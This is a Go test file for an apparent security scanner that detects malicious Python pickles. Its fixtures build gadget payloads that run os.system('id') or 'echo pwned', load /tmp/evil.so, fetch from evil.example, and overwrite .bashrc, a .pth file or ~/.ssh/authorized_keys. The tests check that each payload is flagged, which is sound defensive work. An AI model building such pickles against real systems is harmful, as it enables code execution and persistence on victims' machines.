package pickle

import (
	"testing"

	"github.com/palisade-sec/palisade/internal/scan"
)

// Red-team gaps: library helpers that exec, eval, import by name, load
// nested pickles or write files, each built as the red-team sample does.
func TestGadgetDenyList(t *testing.T) {
	t.Parallel()
	const crit, high = scan.SeverityCritical, scan.SeverityHigh
	inner := newAsm().proto(2).global("os", "system").str("echo pwned").tuple1().reduce().stop().bytes()
	tests := []struct {
		name  string
		data  []byte
		wants []want
	}{
		{"torch.fx reduce_graph_module", newAsm().proto(4).global("torch.fx.graph_module", "reduce_graph_module").mark().emptyDict().
			str("code").str("def forward(self): pass").op(opSetItem).str("import os").tuple().reduce().stop().bytes(), []want{
			{"PKL001", crit, "torch.fx.graph_module.reduce_graph_module", ""}, {"PKL002", crit, "", ""}}},
		{"torch.fx _forward_from_src", newAsm().proto(4).global("torch.fx.graph_module", "_forward_from_src").mark().str("import os").emptyDict().tuple().reduce().stop().bytes(), []want{
			{"PKL001", crit, "_forward_from_src", ""}, {"PKL002", crit, "", ""}}},
		{"typing._eval_type of a ForwardRef", newAsm().proto(4).global("typing", "_eval_type").mark().global("typing", "ForwardRef").str("__import__('os')").tuple1().reduce().
			emptyDict().emptyDict().tuple().reduce().stop().bytes(), []want{
			{"PKL001", crit, "typing._eval_type", ""}, {"PKL003", low, "typing.ForwardRef", ""}}},
		{"typing.ForwardRef._evaluate", newAsm().proto(4).str("typing").str("ForwardRef._evaluate").stackGlobal().stop().bytes(), []want{
			{"PKL001", crit, "ForwardRef._evaluate", ""}}},
		{"dataclasses._create_fn", newAsm().proto(4).global("dataclasses", "_create_fn").mark().str("f").emptyList().str("pass").tuple().reduce().stop().bytes(), []want{
			{"PKL001", crit, "dataclasses._create_fn", ""}, {"PKL002", crit, "", ""}}},
		{"torch._utils._import_dotted_name", newAsm().proto(4).call("torch._utils", "_import_dotted_name", "os.system").str("id").tuple1().reduce().stop().bytes(), []want{
			{"PKL001", crit, "torch._utils._import_dotted_name", ""}, {"PKL002", crit, "", ""}, {"PKL012", high, "", ""}}},
		{"torch.serialization re-export of _import_dotted_name", newAsm().proto(2).global("torch.serialization", "_import_dotted_name").stop().bytes(), []want{
			{"PKL001", crit, "torch.serialization._import_dotted_name", ""}}},
		{"torch._ops.ops.load_library", newAsm().proto(4).str("torch._ops").str("ops.load_library").stackGlobal().str("/tmp/evil.so").tuple1().reduce().stop().bytes(), []want{
			{"PKL001", crit, "torch._ops.ops.load_library", ""}, {"PKL002", crit, "", ""}}},
		{"torch.utils.model_zoo.load_url", newAsm().proto(4).call("torch.utils.model_zoo", "load_url", "https://evil.example/x.pt").stop().bytes(), []want{
			{"PKL001", crit, "torch.utils.model_zoo.load_url", ""}, {"PKL002", crit, "", ""}}},
		{"pandas pickle_compat.loads scans its payload", newAsm().proto(3).global("pandas.compat.pickle_compat", "loads").binBytes(string(inner)).tuple1().reduce().stop().bytes(), []want{
			{"PKL001", crit, "pandas.compat.pickle_compat.loads", ""}, {"PKL002", crit, "pandas.compat.pickle_compat.loads(b'", ""},
			{"PKL002", crit, "os.system('echo pwned')", "pandas.compat.pickle_compat.loads argument"}}},
		{"joblib Unpickler re-export scans its payload", newAsm().proto(4).str("joblib.numpy_pickle_utils").str("Unpickler.load").stackGlobal().
			global("joblib.numpy_pickle_utils", "Unpickler").global("io", "BytesIO").binBytes(string(inner)).tuple1().reduce().tuple1().reduce().tuple1().reduce().stop().bytes(), []want{
			{"PKL001", crit, "joblib.numpy_pickle_utils.Unpickler", ""}, {"PKL002", crit, "", ""},
			{"PKL002", crit, "os.system('echo pwned')", "joblib.numpy_pickle_utils.Unpickler argument"}}},
		{"pickle._Unpickler under another name", newAsm().proto(2).global("mypkg.compat", "_Unpickler").stop().bytes(), []want{
			{"PKL001", crit, "mypkg.compat._Unpickler", ""}}},
		{"numpy npy_load_module", newAsm().proto(4).global("numpy.compat.py3k", "npy_load_module").mark().str("x").str("/tmp/evil.py").tuple().reduce().stop().bytes(), []want{
			{"PKL001", crit, "numpy.compat.py3k.npy_load_module", ""}, {"PKL002", crit, "", ""}}},
		{"torch.utils.benchmark Timer", newAsm().proto(4).str("torch.utils.benchmark.utils.timer").str("Timer.blocked_autorange").stackGlobal().
			global("torch.utils.benchmark.utils.timer", "Timer").str("__import__('os')").tuple1().reduce().tuple1().reduce().stop().bytes(), []want{
			{"PKL001", crit, "torch.utils.benchmark.utils.timer.Timer", ""}, {"PKL002", crit, "", ""}}},
		{"pandas import_optional_dependency through string.Formatter.get_field", newAsm().proto(4).
			str("builtins").str("next").stackGlobal().str("builtins").str("iter").stackGlobal().str("string").str("Formatter.get_field").stackGlobal().
			mark().global("string", "Formatter").emptyTuple().reduce().str("0.system").
			global("pandas.compat._optional", "import_optional_dependency").str("os").tuple1().reduce().tuple1().emptyDict().tuple().reduce().
			tuple1().reduce().tuple1().reduce().str("id").tuple1().reduce().stop().bytes(), []want{
			{"PKL001", crit, "string.Formatter.get_field", ""}, {"PKL001", crit, "pandas.compat._optional.import_optional_dependency", ""},
			{"PKL002", crit, "", ""}, {"PKL003", low, "string.Formatter", ""}, {"PKL012", high, "", ""}}},
		{"warnings._getcategory", newAsm().proto(4).call("warnings", "_getcategory", "antigravity.Warning").stop().bytes(), []want{
			{"PKL001", crit, "warnings._getcategory", ""}, {"PKL002", crit, "", ""}}},
		{"sklearn.utils._joblib.load", newAsm().proto(4).call("sklearn.utils._joblib", "load", "/tmp/evil.joblib").stop().bytes(), []want{
			{"PKL001", high, "sklearn.utils._joblib.load", ""}, {"PKL002", high, "", ""}}},
		{"ElementTree.write", newAsm().proto(4).str("xml.etree.ElementTree").str("ElementTree.write").stackGlobal().stop().bytes(), []want{
			{"PKL001", high, "xml.etree.ElementTree.ElementTree.write", ""}}},
		{"cElementTree.ElementTree.write", newAsm().proto(4).str("xml.etree.cElementTree").str("ElementTree.write").stackGlobal().stop().bytes(), []want{
			{"PKL001", high, "xml.etree.cElementTree.ElementTree.write", ""}}},
		{"pandas DataFrame.to_csv", newAsm().proto(4).str("pandas.core.frame").str("DataFrame.to_csv").stackGlobal().
			global("pandas.core.frame", "DataFrame").emptyTuple().reduce().str("/usr/lib/python3/dist-packages/zz.pth").op(opTuple2).reduce().stop().bytes(), []want{
			{"PKL001", high, "pandas.core.frame.DataFrame.to_csv", ""}, {"PKL002", high, "", ""}}},
		{"pandas Series.to_pickle", newAsm().proto(4).str("pandas").str("Series.to_pickle").stackGlobal().stop().bytes(), []want{
			{"PKL001", high, "pandas.Series.to_pickle", ""}}},
		{"pandas NDFrame.to_hdf", newAsm().proto(4).str("pandas.core.generic").str("NDFrame.to_hdf").stackGlobal().stop().bytes(), []want{
			{"PKL001", high, "pandas.core.generic.NDFrame.to_hdf", ""}}},
		{"numpy.core.memmap", newAsm().proto(4).global("numpy.core.memmap", "memmap").mark().str("/home/user/.bashrc").str("uint8").str("w+").tuple().reduce().stop().bytes(), []want{
			{"PKL001", high, "numpy.core.memmap.memmap", ""}, {"PKL002", high, "", ""}}},
		{"numpy._core.memmap", newAsm().proto(4).global("numpy._core", "memmap").stop().bytes(), []want{
			{"PKL001", high, "numpy._core.memmap", ""}}},
		{"wave.open", newAsm().proto(4).global("wave", "open").str("/home/user/.ssh/authorized_keys").str("wb").op(opTuple2).reduce().stop().bytes(), []want{
			{"PKL001", high, "wave.open", ""}, {"PKL002", high, "", ""}}},
		{"aifc.open", newAsm().proto(4).global("aifc", "open").stop().bytes(), []want{{"PKL001", high, "aifc.open", ""}}},
		{"sunau.open", newAsm().proto(4).global("sunau", "open").stop().bytes(), []want{{"PKL001", high, "sunau.open", ""}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			checkFindings(t, scanBytes(t, nil, "x.pkl", tt.data), tt.wants)
		})
	}
}

// CPython maps Python 2 names through _compat_pickle below protocol 3.
func TestCompatPickleMapping(t *testing.T) {
	t.Parallel()
	const crit = scan.SeverityCritical
	reduceMax := func(a *asm) []byte {
		return a.global("__builtin__", "reduce").mark().global("__builtin__", "max").mark().op(opInt).line("1").op(opInt).line("2").op(opList).tuple().reduce().stop().bytes()
	}
	tests := []struct {
		name  string
		data  []byte
		wants []want
	}{
		{"__builtin__.reduce is functools.reduce (protocol 0)", reduceMax(newAsm()), []want{
			{"PKL001", crit, "__builtin__.reduce", ""}, {"PKL002", crit, "", ""}}},
		{"__builtin__.reduce is functools.reduce (protocol 2)", reduceMax(newAsm().proto(2)), []want{
			{"PKL001", crit, "__builtin__.reduce", ""}, {"PKL002", crit, "", ""}}},
		{"no mapping from protocol 3", reduceMax(newAsm().proto(3)), []want{{"PKL003", low, "__builtin__.reduce", ""}}},
		{"__builtin__.xrange is builtins.range", newAsm().proto(2).global("__builtin__", "xrange").int(3).tuple1().reduce().stop().bytes(), nil},
		{"itertools.imap is builtins.map", newAsm().proto(2).global("itertools", "imap").stop().bytes(), nil},
		{"itertools.imap at protocol 4 is unknown", newAsm().proto(4).global("itertools", "imap").stop().bytes(), []want{{"PKL003", low, "itertools.imap", ""}}},
		{"exceptions.StandardError is builtins.Exception", newAsm().global("exceptions", "StandardError").stop().bytes(), nil},
		{"__builtin__.intern is sys.intern (STACK_GLOBAL)", newAsm().proto(2).str("__builtin__").str("intern").stackGlobal().stop().bytes(), []want{
			{"PKL001", crit, "__builtin__.intern", ""}}},
		{"cPickle.loads by module mapping", newAsm().proto(1).global("cPickle", "loads").stop().bytes(), []want{
			{"PKL001", crit, "cPickle.loads", ""}}},
		{"the last PROTO counts", reduceMax(newAsm().proto(4).proto(2)), []want{
			{"PKL001", crit, "__builtin__.reduce", ""}, {"PKL002", crit, "", ""}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			fs := scanBytes(t, nil, "x.pkl", tt.data)
			var kept []scan.Finding
			for _, f := range fs {
				if f.RuleID != "PKL011" { // protocol anomalies are beside the point here
					kept = append(kept, f)
				}
			}
			checkFindings(t, kept, tt.wants)
		})
	}
	if m, n := compatMap("__builtin__", "reduce"); m != "functools" || n != "reduce" {
		t.Errorf("compatMap(__builtin__, reduce) = %s.%s", m, n)
	}
	if m, n := compatMap("copy_reg", "_reconstructor"); m != "copyreg" || n != "_reconstructor" {
		t.Errorf("compatMap(copy_reg, _reconstructor) = %s.%s", m, n)
	}
}

// Calls of values produced at load time, and the getattr and
// functools.partial patterns real torch files contain.
func TestJudgedCalls(t *testing.T) {
	t.Parallel()
	const crit, high = scan.SeverityCritical, scan.SeverityHigh
	sched := func(a *asm) *asm { // getattr(OneCycleLR.__new__(OneCycleLR), '_annealing_cos')
		return a.global("__builtin__", "getattr").binput(0).global("torch.optim.lr_scheduler", "OneCycleLR").emptyTuple().op(opNewObj).
			binput(1).str("_annealing_cos").op(opTuple2).reduce()
	}
	path := func(a *asm) *asm { // getattr(pathlib.Path('/x'), 'write_text')
		return a.global("builtins", "getattr").global("pathlib", "Path").str("/x").tuple1().reduce().str("write_text").op(opTuple2).reduce()
	}
	norm := func(a *asm) *asm { // functools.partial(LayerNorm) with partial's BUILD state
		return a.global("functools", "partial").global("torch.nn.modules.normalization", "LayerNorm").binput(0).tuple1().reduce().
			mark().binget(0).emptyTuple().emptyDict().str("eps").op(opBinFloat, 0x3e, 0xb0, 0xc6, 0xf7, 0xa0, 0xb5, 0xed, 0x8d).op(opSetItem).none().tuple().build()
	}
	tests := []struct {
		name  string
		data  []byte
		wants []want
	}{
		{"scheduler bound method (torch.save of OneCycleLR)", sched(newAsm().proto(2)).
			binget(0).binget(1).str("_annealing_cos").op(opTuple2).reduce().op(opTuple2).stop().bytes(), []want{
			{"PKL002", low, "_annealing_cos", ""}}},
		{"calling the bound method", sched(newAsm().proto(2)).int(1).int(2).int(5).op(opTuple3).reduce().stop().bytes(), []want{
			{"PKL002", low, "_annealing_cos", ""}, {"PKL012", high, "_annealing_cos')(1, 2, 5)", ""}}},
		{"getattr of Path.write_text called", path(newAsm().proto(2)).str("pwn").tuple1().reduce().stop().bytes(), []want{
			{"PKL001", crit, "builtins.getattr", ""}, {"PKL002", high, "pathlib.Path('/x'), 'write_text')", ""},
			{"PKL002", high, "write_text')('pwn')", ""}}},
		{"getattr of a special attribute stays critical", newAsm().proto(2).global("builtins", "getattr").global("torch.optim.lr_scheduler", "OneCycleLR").
			emptyTuple().op(opNewObj).str("__class__").op(opTuple2).reduce().stop().bytes(), []want{
			{"PKL001", crit, "builtins.getattr", ""}, {"PKL002", crit, "", ""}}},
		{"getattr of an unknown class's instance stays critical", newAsm().proto(2).global("builtins", "getattr").global("mypkg", "Thing").
			emptyTuple().reduce().str("run").op(opTuple2).reduce().stop().bytes(), []want{
			{"PKL001", crit, "builtins.getattr", ""}, {"PKL002", crit, "", ""}, {"PKL003", low, "mypkg.Thing", ""}}},
		{"getattr imported for another use stays critical", sched(newAsm().proto(2)).binget(0).tuple1().op(opTuple2).stop().bytes(), []want{
			{"PKL001", crit, "getattr", ""}, {"PKL002", low, "_annealing_cos", ""}}},
		{"partial of an allow-listed class (timm norm_layer)", norm(newAsm().proto(2)).stop().bytes(), nil},
		{"partial of an allow-listed class called", norm(newAsm().proto(2)).int(8).tuple1().reduce().stop().bytes(), nil},
		{"partial of a dangerous callable", newAsm().proto(2).global("functools", "partial").global("os", "system").str("id").op(opTuple2).reduce().stop().bytes(), []want{
			{"PKL001", crit, "os.system", ""}, {"PKL001", crit, "functools.partial", ""}, {"PKL002", crit, "functools.partial(os.system, 'id')", ""}}},
		{"partial whose BUILD state swaps in a dangerous callable", newAsm().proto(2).global("functools", "partial").global("torch.nn.modules.normalization", "LayerNorm").
			tuple1().reduce().mark().global("os", "system").str("id").tuple1().none().none().tuple().build().emptyTuple().reduce().stop().bytes(), []want{
			{"PKL001", crit, "os.system", ""}, {"PKL002", crit, "__setstate__((os.system, ('id',), None, None))", ""}, {"PKL002", crit, "os.system('id')", ""}}},
		{"partial of an unknown global", newAsm().proto(2).global("functools", "partial").global("mypkg", "layer").tuple1().reduce().stop().bytes(), []want{
			{"PKL003", low, "mypkg.layer", ""}}},
		{"partial of a getattr result", newAsm().proto(2).global("functools", "partial").global("builtins", "getattr").global("mypkg", "Thing").emptyTuple().reduce().
			str("run").op(opTuple2).reduce().tuple1().reduce().stop().bytes(), []want{
			{"PKL001", crit, "builtins.getattr", ""}, {"PKL002", crit, "", ""}, {"PKL003", low, "mypkg.Thing", ""}, {"PKL012", high, "functools.partial", ""}}},
		{"partial passed to map stays critical", newAsm().proto(2).global("builtins", "map").global("functools", "partial").emptyList().op(opTuple2).reduce().stop().bytes(), []want{
			{"PKL001", crit, "functools.partial", ""}}},
		{"call result of a denied global is high", newAsm().proto(2).global("mypkg", "factory").emptyTuple().reduce().str("x").tuple1().reduce().stop().bytes(), []want{
			{"PKL003", low, "mypkg.factory", ""}, {"PKL012", high, "mypkg.factory()('x')", ""}}},
		{"call result passed on by next(iter(...)) is high", newAsm().proto(2).global("builtins", "next").global("builtins", "iter").
			global("mypkg", "factory").emptyTuple().reduce().tuple1().reduce().tuple1().reduce().emptyTuple().reduce().stop().bytes(), []want{
			{"PKL003", low, "mypkg.factory", ""}, {"PKL012", high, "", ""}}},
		{"persistent_load result called stays medium", newAsm().proto(2).str("x").op(opBinPersID).emptyTuple().reduce().stop().bytes(), []want{
			{"PKL012", scan.SeverityMedium, "", ""}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			fs := scanBytes(t, nil, "x.pkl", tt.data)
			var kept []scan.Finding
			for _, f := range fs {
				if f.RuleID != "PKL011" {
					kept = append(kept, f)
				}
			}
			checkFindings(t, kept, tt.wants)
		})
	}
}
